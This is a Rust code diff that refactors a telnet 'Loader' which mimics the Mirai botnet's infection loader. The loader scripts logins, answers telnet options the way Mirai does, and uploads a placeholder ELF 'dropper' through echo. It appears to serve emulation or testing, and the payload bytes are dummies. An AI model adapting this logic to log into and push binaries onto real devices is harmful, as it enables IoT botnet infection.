@@ -5,7 +5,7 @@
 use std::collections::BTreeMap;
 
 /// Bytes that an upload by `echo` sends: a header that says ELF, and every byte there is.
-pub fn dropper() -> Vec<u8> {
+pub(crate) fn dropper() -> Vec<u8> {
     let header = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0";
     header.iter().copied().chain(0..=255).chain(0..=99).collect()
 }
@@ -15,7 +15,7 @@ const CHUNK: usize = 64;
 
 /// What the loader wants next.
 #[derive(Debug, PartialEq, Eq)]
-pub enum Wish {
+pub(crate) enum Wish {
     /// Send these bytes.
     Send(Vec<u8>),
     /// Wait for more of the answer to what was sent last.
@@ -24,7 +24,7 @@ pub enum Wish {
 }
 
 /// One dialogue.
-pub struct Loader {
+pub(crate) struct Loader {
     steps: Vec<String>,
     at: usize,
     /// What has come since the last line was sent, without telnet's commands.
@@ -32,14 +32,16 @@ pub struct Loader {
     /// Answers to options that wait to be sent.
     replies: Vec<u8>,
     stream: Vec<u8>,
-    pub learnt: BTreeMap<String, String>,
+    learnt: BTreeMap<String, String>,
     writable: Vec<String>,
 }
 
 impl Loader {
-    /// A loader for this dialogue; `is_control`: the bot itself is left out.
-    pub fn new(dialogue: &str, user: &str, password: &str, is_control: bool) -> Self {
+    /// A loader for this dialogue; `is_control`: the device has no login, and the bot itself cannot run there.
+    pub(crate) fn new(dialogue: &str, user: &str, password: &str, is_control: bool) -> Self {
         let lines = dialogue.lines().filter(|line| !line.starts_with('#') && !line.is_empty());
+        let login = ["? login", "> {user}", "? password", "> {password}"];
+        let lines = lines.filter(|line| !(is_control && login.contains(line)));
         let steps = lines.filter_map(|line| match line.strip_prefix('@') {
             Some(_) if is_control => None,
             Some(rest) => Some(rest.to_owned()),
@@ -58,48 +60,43 @@ impl Loader {
         }
     }
 
-    /// Leaves out the login: the device has none.
-    pub fn without_login(mut self) -> Self {
-        self.steps.retain(|step| !["? login", "> {user}", "? password", "> {password}"].contains(&step.as_str()));
-        self
-    }
-
     /// Takes what the device sends. Options are answered as Mirai's loader does.
-    pub fn receive(&mut self, bytes: &[u8]) {
+    pub(crate) fn receive(&mut self, bytes: &[u8]) {
         self.stream.extend_from_slice(bytes);
+        let stream = std::mem::take(&mut self.stream);
+        let mut rest = stream.as_slice();
         loop {
-            match self.stream.as_slice() {
-                [0xff, 0xfd, 31, ..] => {
+            rest = match rest {
+                [0xff, 0xfd, 31, rest @ ..] => {
                     self.replies.extend(b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0");
-                    self.stream.drain(..3);
+                    rest
                 }
-                [0xff, verb @ 0xfb..=0xfe, option, ..] => {
-                    let answer = match verb {
-                        0xfd => 0xfc,
-                        0xfb => 0xfd,
-                        _ => 0,
-                    };
-                    if answer != 0 {
-                        self.replies.extend([0xff, answer, *option]);
-                    }
-                    self.stream.drain(..3);
+                [0xff, 0xfd, option, rest @ ..] => {
+                    self.replies.extend([0xff, 0xfc, *option]);
+                    rest
                 }
-                [0xff, 0xff, ..] => {
+                [0xff, 0xfb, option, rest @ ..] => {
+                    self.replies.extend([0xff, 0xfd, *option]);
+                    rest
+                }
+                [0xff, 0xfc | 0xfe, _, rest @ ..] => rest,
+                [0xff] | [0xff, 0xfb..=0xfe] | [] => break,
+                [0xff, 0xff, rest @ ..] => {
                     self.answer.push(0xff);
-                    self.stream.drain(..2);
+                    rest
                 }
-                [0xff] | [0xff, 0xfb..=0xfe] | [] => return,
-                [0xff, _, ..] => drop(self.stream.drain(..2)),
-                [byte, ..] => {
+                [0xff, _, rest @ ..] => rest,
+                [byte, rest @ ..] => {
                     self.answer.push(*byte);
-                    self.stream.remove(0);
+                    rest
                 }
-            }
+            };
         }
+        self.stream = rest.to_vec();
     }
 
     /// What to do next.
-    pub fn next(&mut self) -> Wish {
+    pub(crate) fn next(&mut self) -> Wish {
         if !self.replies.is_empty() {
             return Wish::Send(std::mem::take(&mut self.replies));
         }
